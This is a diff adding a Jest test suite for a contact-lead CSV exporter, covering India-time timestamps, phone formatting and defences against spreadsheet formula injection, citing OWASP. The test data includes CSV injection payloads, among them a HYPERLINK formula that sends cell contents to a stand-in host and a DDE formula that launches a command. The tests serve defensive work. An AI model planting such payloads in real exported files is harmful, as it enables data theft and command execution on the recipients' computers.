@@ -1,0 +1,160 @@
+import { expect, test } from "@jest/globals";
+import { parse } from "csv-parse/sync";
+import { csvHeader, csvLines, type ExportedContact } from "./csv";
+
+const lead: ExportedContact = {
+  createdAt: new Date("2026-11-21T18:35:59.999Z"),
+  name: "Meera Iyer",
+  email: "meera@example.in",
+  phone: "9876543210",
+  message: "Please call me back",
+  origin: "/contact",
+  noticeVersion: "2026-11",
+  isSpam: false,
+};
+
+const read = (file: string) => parse(file, { bom: true });
+const lineOf = (name: string) => csvLines([{ ...lead, name }]);
+const nameAsRead = (name: string) => read(lineOf(name))[0]![1];
+
+test("the file begins with the mark of UTF-8 and a line of names", () => {
+  expect(csvHeader()).toBe(
+    '\ufeff"Received (India time)","Name","Email","Phone","Message","Sent from","Privacy notice","Marked as spam"\r\n',
+  );
+});
+
+test("a lead is a line, in India's time, which is of the next day", () => {
+  const spam = { ...lead, origin: null, noticeVersion: null, isSpam: true };
+  expect(csvLines([lead, spam])).toBe(
+    '"2026-11-22 00:05","Meera Iyer","meera@example.in","9876543210","Please call me back","/contact","2026-11","no"\r\n' +
+      '"2026-11-22 00:05","Meera Iyer","meera@example.in","9876543210","Please call me back",,,"yes"\r\n',
+  );
+  expect(csvLines([])).toBe("");
+});
+
+test("what is in a cell ends neither the cell nor the line, for whoever reads", () => {
+  const message = 'One\ntwo\r\nthree\rfour; five,\tsix "seven"';
+  const file = csvHeader() + csvLines([{ ...lead, message }, lead]);
+  expect(file).toContain(`,"${message.replaceAll('"', '""')}",`);
+  for (const delimiter of [",", [",", ";", "\t"]]) {
+    const rows = parse(file, { bom: true, delimiter, record_delimiter: ["\r\n", "\n", "\r"] });
+    expect(rows.map((row) => row.length)).toEqual([8, 8, 8]);
+    expect(rows[1]![4]).toBe(message);
+  }
+});
+
+// OWASP, CSV injection: https://owasp.org/www-community/attacks/CSV_Injection
+test.each([
+  ...["=1+1", "+91 98765 43210", "-1+1", "@SUM(1)"],
+  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1)"],
+  ...["﹢1+1", "﹣1+1", "﹦1+1", "﹫SUM(1)", "⁼1+1", "⁺1"],
+  `=HYPERLINK("https://evil.example?"&A1,"Open")`,
+  `=cmd|' /C calc'!A0`,
+])("%j has an apostrophe before it, wherever a cell may begin", (hostile) => {
+  expect(nameAsRead(hostile)).toBe(`'${hostile}`);
+  const spaces = [" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\x01", "\v", "\f"];
+  for (const unseen of [...spaces, "\u2028", "\u00ad", "\n", " \n "]) {
+    expect(nameAsRead(`${unseen}${hostile}`)).toBe(`${unseen}'${hostile}`);
+  }
+  for (const start of [
+    ";",
+    ' ;";',
+    "Hello;",
+    "Hello; ",
+    'Hello;"',
+    'Hello; "" "',
+    'Hello\t"',
+    "Hello\n",
+    "Hello\r\n\n",
+    "Hello\r",
+    'a";',
+    "a\t",
+  ]) {
+    expect(nameAsRead(`${start}${hostile}`)).toBe(`${start}'${hostile}`);
+  }
+  // These are formulas to some by themselves.
+  for (const start of ["\t", "\r", "\r\n"]) {
+    expect(nameAsRead(`${start}${hostile}`)).toBe(`'${start}'${hostile}`);
+  }
+});
+
+test("separated by semicolons, nothing is a formula either", () => {
+  const hostile = [
+    ";=1+1;",
+    " ;;=1+1;",
+    "x;=1+1;",
+    "x\n=1+1\n",
+    'x"";=1+1;"',
+    '";=1+1;"',
+    "x;\r\n =1+1;",
+    "\n=1+1;",
+  ];
+  for (const name of hostile) {
+    const cells = lineOf(name).split(/[;\r\n]/);
+    expect(cells.length).toBeGreaterThan(2);
+    for (const cell of cells) expect(cell.trim()).not.toMatch(/^"?[=+\-@]/);
+  }
+});
+
+test.each([
+  ...["Meera", "a=1", "1-2", "x@example.in", "'=1", "", " Meera", "ऋण", "😀 =1", "(+91) 98765"],
+  ...[
+    '"=1+1"',
+    ',=1+1,"',
+    'a"\r\n,=1+1,"',
+    "two\nlines",
+    "a\rb",
+    "'",
+    "\\",
+    "₹5,00,000",
+    "\nplain",
+  ],
+])("%j stays as it is, in one cell", (harmless) => {
+  expect(nameAsRead(harmless)).toBe(harmless);
+  expect(read(csvLines([{ ...lead, name: harmless }, lead]))).toHaveLength(2);
+});
+
+const phoneAsRead = (phone: string) => read(csvLines([{ ...lead, phone }]))[0]![3];
+
+test.each([
+  ["+919876543210", "(+91) 9876543210"],
+  ["+91 98765 43210", "(+91) 98765 43210"],
+  ["+91-98765-43210", "(+91) 98765-43210"],
+  ["+(91) 98765-43210", "(+91) 98765-43210"],
+  ["+ 91 98765 43210", "(+91) 98765 43210"],
+  ["+971 50 123 4567", "(+971) 50 123 4567"],
+  ["+971501234567", "(+971) 501234567"],
+  ["+1 (650) 253-0000", "(+1) (650) 253-0000"],
+  ["+442079460958", "(+44) 2079460958"],
+  ["9876543210", "9876543210"],
+  ["098765 43210 / 9123456780", "098765 43210 / 9123456780"],
+])("the phone number %j is text to every program, as %j", (phone, written) => {
+  expect(phoneAsRead(phone)).toBe(written);
+});
+
+test.each([
+  "+91 98765 43210;=1+1",
+  "+91+1",
+  "+91 98765*2",
+  "+A1 98765 43210",
+  "+91 98765\n-1+1",
+  "+SUM(91)",
+  "-91 98765 43210",
+  "＋91 98765 43210",
+])("the phone field %j is guarded like every other cell", (phone) => {
+  expect(phoneAsRead(phone)).toMatch(/^'/);
+});
+
+test("a text of nothing but line ends takes no time", () => {
+  const begun = performance.now();
+  for (const unit of ["\n", ";", "; ", "\r\n", ";=", "\u200b"]) lineOf(unit.repeat(32_000));
+  for (const unit of [" ", "-", "(", ")", "1"]) phoneAsRead(`+91${unit.repeat(32_000)}x`);
+  expect(performance.now() - begun).toBeLessThan(1_000);
+});
+
+test("every cell that somebody typed is guarded", () => {
+  const hostile = "=1+1";
+  const typed = { name: hostile, email: hostile, phone: hostile, message: hostile };
+  const [row] = read(csvLines([{ ...lead, ...typed, origin: hostile, noticeVersion: hostile }]));
+  expect(row!.slice(1, 7)).toEqual(Array(6).fill(`'${hostile}`));
+});
